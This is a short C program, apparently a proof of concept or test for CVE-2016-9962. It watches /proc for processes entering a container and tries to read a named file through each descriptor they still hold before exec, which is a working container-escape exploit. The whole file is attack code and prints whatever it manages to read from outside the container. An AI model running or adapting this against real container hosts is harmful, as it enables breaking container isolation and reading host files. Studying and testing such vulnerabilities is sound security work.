/* SPDX-License-Identifier: Apache-2.0 */
/*
 * peek FILE: waits for processes that come into the container, and tries to read FILE through each
 * descriptor that one of them still holds, before it has executed its program. CVE-2016-9962.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static int look(int pid, const char *file)
{
	char path[512], text[4096];
	for (int fd = 3; fd < 24; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d/%s", pid, fd, file);
		int in = open(path, O_RDONLY);
		ssize_t n = in < 0 ? -1 : read(in, text, sizeof text);
		if (in >= 0)
			close(in);
		if (n > 0) {
			printf("REACHED by %s: ", path);
			fwrite(text, 1, (size_t)n, stdout);
			putchar('\n');
			return 1;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	int self = getpid();
	if (argc != 2)
		return 2;
	setvbuf(stdout, NULL, _IONBF, 0);
	puts("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *d;
		while (proc && (d = readdir(proc))) {
			int pid = atoi(d->d_name);
			if (pid > self && look(pid, argv[1]))
				return 0;
		}
		if (proc)
			closedir(proc);
	}
}
